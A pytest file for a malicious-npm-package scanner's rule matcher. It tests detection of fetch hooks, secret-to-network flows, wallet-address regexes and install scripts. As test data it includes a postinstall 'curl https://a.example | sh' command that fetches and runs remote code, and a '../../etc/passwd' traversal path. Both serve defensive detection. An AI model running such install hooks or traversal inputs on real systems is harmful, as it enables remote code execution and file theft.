from __future__ import annotations

from pathlib import Path

import pytest

from npmguard.detect.match import Candidate, Matcher, resolve_local
from npmguard.detect.rule import Ruleset, load_ruleset
from npmguard.model import Fact, FactKind, FileFacts, FunctionSpan, Manifest

EXAMPLES = """
examples:
  match: [{name: a, code: a}, {name: b, code: b}]
  no_match: [{name: c, code: c}, {name: d, code: d}]
"""


def rules_of(folder: Path, scope: str, match: str, signals: dict[str, str]) -> Ruleset:
    for name, clauses in signals.items():
        (folder / f"{name}.yml").write_text(
            f"id: {name}\nkind: signal\ntitle: {name}\ndescription: d\nmatch: {clauses}{EXAMPLES}",
            encoding="utf-8",
        )
    (folder / "mine.yml").write_text(
        "id: mine\nkind: rule\ntitle: t\nseverity: high\nconfidence: high\n"
        "description: d\nfalse_positives: f\nremediation: r\n"
        f"scope: {scope}\nmatch: {match}{EXAMPLES}",
        encoding="utf-8",
    )
    return load_ruleset([str(folder)])


def at(
    start: int,
    kind: FactKind,
    name: str = "",
    function: int = 0,
    value: str | None = None,
    target: int | None = None,
) -> Fact:
    return Fact(kind, name, 1, start + 1, start, start + 1, function, value=value, target=target)


def flow(name: str, value: str | None = None, to: str | None = None, part: str | None = None) -> Fact:
    return Fact(FactKind.FLOW, name, 1, 2, 1, 2, 0, value, ("fetch", "1:1", to, part))


def found(ruleset: Ruleset, *files: FileFacts, manifest: Manifest | None = None) -> list[Candidate]:
    matcher = Matcher(ruleset)
    read = [matcher.read(file) for file in files]
    candidates = matcher.candidates(read, matcher.read_manifest(manifest))
    return [candidate for candidate in candidates if candidate.rule.id == "mine"]


HOOKED_AND_USED = {"hooked": "{all: [{write: fetch}]}", "used": "{all: [{call: '*.replace'}]}"}

# An outer function (1) holds a hook (2) and a helper (3); beside it a stranger (4), and a table at 90 to 99.
SPANS = (
    FunctionSpan(0, 100, -1),
    FunctionSpan(0, 50, 0),
    FunctionSpan(10, 20, 1, reaches=(3,)),
    FunctionSpan(30, 40, 1, refers=((90, 99),)),
    FunctionSpan(60, 70, 0),
)
HOOK = at(5, FactKind.WRITE, "fetch", 1, "<function>", target=2)


@pytest.mark.parametrize(
    ("used", "seen"),
    [
        (at(12, FactKind.CALL, "?.replace", 2), True),
        (at(32, FactKind.CALL, "?.replace", 3), True),
        (at(92, FactKind.CALL, "?.replace", 0), True),
        (at(62, FactKind.CALL, "?.replace", 4), False),
        (at(45, FactKind.CALL, "?.replace", 1), False),
        (at(80, FactKind.CALL, "?.replace", 0), False),
    ],
    ids=["in the hook", "in what it calls", "in what that refers to", "elsewhere", "around it", "at top level"],
)
def test_scope_function_is_what_the_written_function_reaches(tmp_path: Path, used: Fact, *, seen: bool) -> None:
    ruleset = rules_of(tmp_path, "function", "{all: [hooked, used]}", HOOKED_AND_USED)
    facts = tuple(sorted((HOOK, used), key=lambda fact: fact.start))
    assert bool(found(ruleset, FileFacts("a.js", facts, SPANS))) is seen


def test_scope_function_starts_from_the_functions_inside_an_expression(tmp_path: Path) -> None:
    ruleset = rules_of(tmp_path, "function", "{all: [hooked, used]}", HOOKED_AND_USED)
    spans = (FunctionSpan(0, 100, -1), FunctionSpan(10, 20, 0), FunctionSpan(50, 60, 0))
    proxied = Fact(FactKind.WRITE, "fetch", 1, 1, 5, 30, 0)
    inside = at(12, FactKind.CALL, "?.replace", 1)
    outside = at(52, FactKind.CALL, "?.replace", 2)
    assert found(ruleset, FileFacts("a.js", (proxied, inside), spans))
    assert not found(ruleset, FileFacts("a.js", (proxied, outside), spans))


def test_the_module_registry_of_a_bundle_does_not_tie_its_modules_together(tmp_path: Path) -> None:
    ruleset = rules_of(tmp_path, "function", "{all: [hooked, used]}", HOOKED_AND_USED)
    modules = tuple(FunctionSpan(100 * i, 100 * i + 50, 0) for i in range(1, 80))
    requiring = FunctionSpan(9000, 9010, 0, refers=((100, 8000),))
    spans = (FunctionSpan(0, 10_000, -1), *modules, requiring, FunctionSpan(110, 120, 1, reaches=(80,)))
    hook = at(105, FactKind.WRITE, "fetch", 1, "<function>", target=81)
    used = at(7905, FactKind.CALL, "?.replace", 79)
    assert not found(ruleset, FileFacts("a.js", (hook, used), spans))


def test_every_place_of_the_anchor_is_tried(tmp_path: Path) -> None:
    ruleset = rules_of(tmp_path, "function", "{all: [hooked, used]}", HOOKED_AND_USED)
    spans = (FunctionSpan(0, 100_000, -1), *(FunctionSpan(10 * i, 10 * i + 9, 0) for i in range(1, 600)))
    decoys = [at(10 * i - 1, FactKind.WRITE, "fetch", 0, "<function>", target=i) for i in range(1, 600)]
    used = at(5992, FactKind.CALL, "?.replace", 599)
    assert found(ruleset, FileFacts("a.js", (*decoys, used), spans))


def test_a_region_goes_on_in_the_files_that_it_imports(tmp_path: Path) -> None:
    ruleset = rules_of(tmp_path, "function", "{all: [hooked, used]}", HOOKED_AND_USED)
    spans = (FunctionSpan(0, 100, -1), FunctionSpan(20, 30, 0, refers=((0, 9),)), FunctionSpan(40, 50, 0))
    hook = at(15, FactKind.WRITE, "fetch", 0, "<function>", target=1)
    imported, other = at(3, FactKind.MODULE, "./lib/swap"), at(60, FactKind.MODULE, "./other")
    used = FileFacts("lib/swap.js", (at(1, FactKind.CALL, "?.replace"),), (FunctionSpan(0, 9, -1),))
    main = FileFacts("index.js", (imported, hook, other), spans)
    assert found(ruleset, main, used)
    assert not found(ruleset, main, FileFacts("other.js", used.facts, used.functions))


@pytest.mark.parametrize(("scope", "together", "apart"), [("file", True, False), ("package", True, True)])
def test_scopes_file_and_package(tmp_path: Path, scope: str, *, together: bool, apart: bool) -> None:
    ruleset = rules_of(tmp_path, scope, "{all: [hooked, used]}", HOOKED_AND_USED)
    used = at(62, FactKind.CALL, "?.replace", 4)
    assert bool(found(ruleset, FileFacts("a.js", (HOOK, used), SPANS))) is together
    assert bool(found(ruleset, FileFacts("a.js", (HOOK,), SPANS), FileFacts("b.js", (used,), SPANS))) is apart


@pytest.mark.parametrize(
    ("match", "names", "seen"),
    [
        ("{all: [one, two]}", "12", True),
        ("{all: [one, two]}", "1", False),
        ("{any: [one, two]}", "2", True),
        ("{any: [one, two]}", "3", False),
        ("{all: [one], none: [two]}", "1", True),
        ("{all: [one], none: [two]}", "12", False),
        ("{all: [one, {any: [two, three]}]}", "13", True),
        ("{all: [one, {any: [two, three]}]}", "23", False),
        ("{all: [one], any: [{all: [two, three]}]}", "12", False),
        ("{all: [one], any: [{all: [two, three]}]}", "123", True),
    ],
)
def test_combinations(tmp_path: Path, match: str, names: str, *, seen: bool) -> None:
    signals = {word: f"{{all: [{{call: f{i}}}]}}" for i, word in ((1, "one"), (2, "two"), (3, "three"))}
    ruleset = rules_of(tmp_path, "file", match, signals)
    facts = tuple(at(int(name), FactKind.CALL, f"f{name}") for name in names)
    assert bool(found(ruleset, FileFacts("a.js", facts, SPANS))) is seen


@pytest.mark.parametrize(
    ("clause", "fact", "seen"),
    [
        ("call: a.b", at(1, FactKind.CALL, "a.b"), True),
        ("call: a.b", at(1, FactKind.NEW, "a.b"), False),
        ("call: a.b", at(1, FactKind.CALL, "x.a.b"), False),
        ("call: '*.b'", at(1, FactKind.CALL, "x.a.b"), True),
        ("call: '*.b'", at(1, FactKind.CALL, "b"), False),
        ("call: 'a.*'", at(1, FactKind.CALL, "a.[]"), True),
        ("write: {name: a, value: function}", at(1, FactKind.WRITE, "a", value="<function>"), True),
        ("write: {name: a, value: function}", at(1, FactKind.WRITE, "a", target=1), True),
        ("write: {name: a, value: function}", at(1, FactKind.WRITE, "a", value="text"), False),
        ("write: {name: a, value: {contains: ex}}", at(1, FactKind.WRITE, "a", value="text"), True),
        ("write: {name: a, value: {contains: ex}}", at(1, FactKind.WRITE, "a"), False),
        ("string: {equals: [x, y]}", at(1, FactKind.STRING, value="y"), True),
        ("string: {equals: [x, y]}", at(1, FactKind.STRING, value="xy"), False),
        ("string: {contains: [x, y]}", at(1, FactKind.STRING, value="axe"), True),
        ("string: {matches: '^a.e$'}", at(1, FactKind.STRING, value="axe"), True),
        ("string: {matches: '^a.e$', contains: b}", at(1, FactKind.STRING, value="axe"), False),
        ("module: [fs, child_process]", at(1, FactKind.MODULE, "fs"), True),
        ("read: process.env", at(1, FactKind.READ, "process.env"), True),
        ("shape: edit-distance", at(1, FactKind.SHAPE, "edit-distance"), True),
        ("flow: {from: file, to: network}", flow("file>network"), True),
        ("flow: {from: file, to: dns}", flow("file>network"), False),
        ("flow: {from: [environment, file], to: [dns, network]}", flow("file>network"), True),
        ("flow: {from: file, to: network, value: {contains: b}}", flow("file>network", "abc"), True),
        ("flow: {from: file, to: network, value: {contains: b}}", flow("file>network"), False),
        ("flow: {from: file, to: network, target: {equals: x}}", flow("file>network", to="x"), True),
        ("flow: {from: file, to: network, target: {equals: x}}", flow("file>network", to="y"), False),
        ("flow: {from: file, to: network, part: [url, body]}", flow("file>network", part="body"), True),
        ("flow: {from: file, to: network, part: url}", flow("file>network", part="body"), False),
        ("regex: {matches: 'a-f'}", at(1, FactKind.REGEX, value="[a-f]"), True),
        ("regex: {accepts: tron}", at(1, FactKind.REGEX, value="T[1-9A-HJ-NP-Za-km-z]{33}"), True),
        ("regex: {accepts: ethereum}", at(1, FactKind.REGEX, value="T[1-9A-HJ-NP-Za-km-z]{33}"), False),
    ],
)
def test_clauses(tmp_path: Path, clause: str, fact: Fact, *, seen: bool) -> None:
    ruleset = rules_of(tmp_path, "file", "{all: [one]}", {"one": f"{{all: [{{{clause}}}]}}"})
    assert bool(found(ruleset, FileFacts("a.js", (fact,), SPANS))) is seen


@pytest.mark.parametrize(("values", "seen"), [("ab", True), ("aa", False), ("a", False)])
def test_different_details_of_flows_are_counted(tmp_path: Path, values: str, *, seen: bool) -> None:
    signals = {"one": "{all: [{flow: {from: environment-secret, to: network, distinct: 2}}]}"}
    ruleset = rules_of(tmp_path, "file", "{all: [one]}", signals)
    facts = tuple(flow("environment-secret>network", value) for value in values)
    assert bool(found(ruleset, FileFacts("a.js", facts, SPANS))) is seen


def test_a_wrapper_is_a_function_that_calls_what_was_there(tmp_path: Path) -> None:
    signals = {"one": "{all: [{write: {name: fetch, value: wrapper}}]}"}
    ruleset = rules_of(tmp_path, "file", "{all: [one]}", signals)
    shape = Fact(FactKind.SHAPE, "wraps-original", 1, 6, HOOK.start, HOOK.end, 1, target=2)
    elsewhere = Fact(FactKind.SHAPE, "wraps-original", 1, 6, 40, 44, 1, target=2)
    assert found(ruleset, FileFacts("a.js", (shape, HOOK), SPANS))
    assert not found(ruleset, FileFacts("a.js", (HOOK, elsewhere), SPANS))


def test_flags_of_a_pattern_are_heeded(tmp_path: Path) -> None:
    ruleset = rules_of(tmp_path, "file", "{all: [one]}", {"one": "{all: [{regex: {accepts: ethereum}}]}"})
    facts = [
        Fact(FactKind.REGEX, "", 1, 1, 0, 9, 0, value="0X[A-F0-9]{40}", args=(flags,)) for flags in ("i", "")
    ]
    assert [bool(found(ruleset, FileFacts("a.js", (fact,), SPANS))) for fact in facts] == [True, False]


@pytest.mark.parametrize(
    ("args", "seen"),
    [
        (("copy", None), True),
        ((None, "copy"), False),
        (("paste",), False),
        ((), False),
    ],
)
def test_arguments(tmp_path: Path, args: tuple[str | None, ...], *, seen: bool) -> None:
    signals = {"one": "{all: [{call: {name: '*.on', args: [{at: 0, equals: copy}]}}]}"}
    ruleset = rules_of(tmp_path, "file", "{all: [one]}", signals)
    fact = Fact(FactKind.CALL, "document.on", 1, 1, 0, 9, 0, args=args)
    assert bool(found(ruleset, FileFacts("a.js", (fact,), SPANS))) is seen


@pytest.mark.parametrize(
    ("least", "values", "seen"),
    [
        ("count: 2", ["aa", "aa"], True),
        ("count: 2", ["aa"], False),
        ("distinct: 2", ["aa", "aa"], False),
        ("distinct: 2", ["aa", "ab"], True),
    ],
)
def test_thresholds(tmp_path: Path, least: str, values: list[str], *, seen: bool) -> None:
    ruleset = rules_of(
        tmp_path, "file", "{all: [one]}", {"one": f"{{all: [{{string: {{contains: a, {least}}}}}]}}"}
    )
    facts = tuple(at(i, FactKind.STRING, value=value) for i, value in enumerate(values))
    assert bool(found(ruleset, FileFacts("a.js", facts, SPANS))) is seen


def test_scripts_of_the_manifest(tmp_path: Path) -> None:
    signals = {"one": "{all: [{manifest: {scripts: [install, '*install'], matches: 'curl|wget'}}]}"}
    ruleset = rules_of(tmp_path, "package", "{all: [one]}", signals)
    bad = Manifest("p", "1.0.0", scripts={"postinstall": "curl https://a.example | sh"})
    good = Manifest("p", "1.0.0", scripts={"test": "curl https://a.example", "install": "node a.js"})
    (candidate,) = found(ruleset, manifest=bad)
    assert candidate.sightings[0].places[0].text == "postinstall: curl https://a.example | sh"
    assert not found(ruleset, manifest=good)
    assert not found(ruleset)


def test_candidates_come_in_the_order_of_their_files(tmp_path: Path) -> None:
    ruleset = rules_of(tmp_path, "file", "{all: [hooked]}", HOOKED_AND_USED)
    files = [FileFacts(path, (HOOK,), SPANS) for path in ("b.js", "a.js", "c/d.js")]
    assert [candidate.file for candidate in found(ruleset, *files)] == ["a.js", "b.js", "c/d.js"]


@pytest.mark.parametrize(
    ("path", "name", "expected"),
    [
        ("index.js", "./a", "a.js"),
        ("lib/index.js", "../a.js", "a.js"),
        ("lib/index.js", "./b", "lib/b/index.js"),
        ("lib/c.ts", "./d.js", "lib/d.ts"),
        ("index.js", "./data.bin", "data.bin"),
        ("index.js", "../../etc/passwd", None),
        ("index.js", "./missing", None),
    ],
)
def test_local_modules_are_looked_up_as_node_does(path: str, name: str, expected: str | None) -> None:
    package = {"index.js", "a.js", "lib/b/index.js", "lib/d.ts", "data.bin"}
    assert resolve_local(path, name, package) == expected
